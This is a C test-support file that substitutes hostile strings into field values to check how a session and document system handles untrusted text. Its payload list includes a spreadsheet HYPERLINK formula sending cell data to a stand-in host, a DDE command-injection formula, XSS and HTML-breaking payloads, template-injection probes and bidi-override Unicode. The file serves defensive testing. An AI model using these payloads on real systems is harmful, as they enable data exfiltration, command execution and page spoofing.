/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/support/hostile.h"

#include <stdlib.h>
#include <string.h>

#include "base/hash.h"
#include "base/utf8.h"

static hostile_mode_t hostile_mode;
static FILE *hostile_told;

/* What a rule compares with something else has to stay what it is. */
static const char *const read_by_rules[] = {
    "session.code",
    "session_concluded.session",
    "report_adopted.session",
    "presence.session",
    "value.key",
    "value.value",
    "states.value",
    "documents.value",
    "register_change.state",
    "comment.language",
    "screening.reason",
    "removal.reason",
    "objected.reason",
    "comment_ruling.reason",
    "roster_change.state",
    "roster_change.holder",
    "application.country",
    "amendment.country",
};

/* Each of them begins the text of some field, so that each meets every place. */
static const char *const pieces[] = {
    "=HYPERLINK(\"http://x.example/?\"&A1)",
    "+cmd|' /C calc'!A0",
    "-2+3<script>alert(1)</script>",
    "@SUM(1+1)<svg onload=alert(1)><title>",
    "\"'><img src=x onerror=alert(1)>",
    "</title></bdi></div></td></table></main><h1>Forged</h1><p id=main class=banner>",
    "<!-- --!> ]]> <![CDATA[ <?xml &lt;&amp;&#x3c;&notin;&bogus;",
    "\xe2\x80\xae\xe2\x81\xa6\xe2\x81\xa7\xd8\x9c\xe2\x80\x8f override\xe2\x80\xa8\xe2\x80\xa9",
    "\xef\xbb\xbf\xef\xbf\xbe\xef\xbf\xbf\xf0\x9f\x92\xa9\xcc\x81\xe2\x80\x8d\xef\xbc\x9d",
    "<style>*{display:none}</style><base href=//x><meta http-equiv=refresh content=0><form>",
    "<template><plaintext><textarea><noscript>\\\"\\u0000%00${7*7}{{7*7}},;'`",
    "\xef\xbc\2351+1", /* octal, which ends after three digits */
    "'=1+1",
    "javascript:alert(1) \xd9\x85\xd8\xb1\xd8\xad\xd8\xa8\xd8\xa7 http://a.example/",
};

enum { PIECES = sizeof pieces / sizeof pieces[0], TOKEN_SIZE = 9 };

void hostile_set(hostile_mode_t mode, FILE *told)
{
    hostile_mode = mode;
    hostile_told = told;
}

bool hostile_is_on(void)
{
    return hostile_mode != HOSTILE_OFF;
}

static bool is_read(const char *shape, const char *field)
{
    char name[128];
    (void)snprintf(name, sizeof name, "%s.%s", shape, field);
    for (size_t i = 0; i < sizeof read_by_rules / sizeof read_by_rules[0]; i++) {
        if (strcmp(read_by_rules[i], name) == 0)
            return true;
    }
    return false;
}

/* Pieces from this one on until no more fit; never half a character. */
static size_t hostile_fill(char *out, size_t max, size_t first, bool is_long, const char *token)
{
    size_t size = 0;
    for (size_t i = first; size < max; i++) {
        const char *piece = pieces[i % PIECES];
        const char *after = i == first ? token : is_long && i % 3 == 0 ? "\n\n \n" : " ";
        dais_slice_t rest = dais_slice_text(piece);
        uint32_t point;
        for (size_t step; (step = dais_utf8_next(rest, &point)) > 0 && size + step <= max;) {
            memcpy(out + size, rest.data, step);
            size += step;
            rest = dais_slice(rest.data + step, rest.size - step);
        }
        if (rest.size > 0)
            break;
        for (; *after != '\0' && size < max; after++)
            out[size++] = *after;
    }
    return size;
}

static size_t count_characters(dais_slice_t text)
{
    size_t count = 0;
    for (size_t i = 0; i < text.size; i++)
        count += (text.data[i] & 0xc0) != 0x80;
    return count;
}

static dais_slice_t keep(dais_slice_t text)
{
    static struct kept {
        struct kept *before;
        uint8_t bytes[];
    } * last;
    struct kept *kept = malloc(sizeof *kept + text.size);
    if (kept == NULL)
        abort();
    memcpy(kept->bytes, text.data, text.size);
    kept->before = last;
    last = kept;
    return dais_slice(kept->bytes, text.size);
}

static void tell(const char *shape, const char *field, const char *token, dais_slice_t text)
{
    if (hostile_told == NULL)
        return;
    (void)fprintf(hostile_told, "{\"field\": \"%s.%s\", \"token\": \"%s\", \"hex\": \"", shape,
                  field, token);
    for (size_t i = 0; i < text.size; i++)
        (void)fprintf(hostile_told, "%02x", text.data[i]);
    (void)fputs("\"}\n", hostile_told);
}

dais_slice_t hostile_text(const char *shape, const char *field, size_t max, bool is_long,
                          const char *text)
{
    static char made[HOSTILE_CONTENT_SIZE];
    char token[TOKEN_SIZE + 1];
    if (hostile_mode == HOSTILE_OFF || is_read(shape, field) || max <= TOKEN_SIZE)
        return dais_slice_text(text);
    char seed[24];
    (void)snprintf(seed, sizeof seed, "%zu", max);
    dais_slice_t parts[] = {dais_slice_text(seed), dais_slice_text(text)};
    dais_hash_t hash = dais_hash(parts, 2);
    (void)snprintf(token, sizeof token, "P%02x%02x%02x%02x", hash.bytes[0], hash.bytes[1],
                   hash.bytes[2], hash.bytes[3]);
    size_t size = hostile_fill(made, max < sizeof made ? max : sizeof made, hash.bytes[4] % PIECES,
                               is_long, token);
    if (hostile_mode == HOSTILE_PLAIN) {
        size_t count = count_characters(dais_slice(made, size));
        memset(made, 'x', count);
        memcpy(made, token, TOKEN_SIZE);
        size = count;
    }
    dais_slice_t kept = keep(dais_slice(made, size));
    tell(shape, field, token, kept);
    return kept;
}
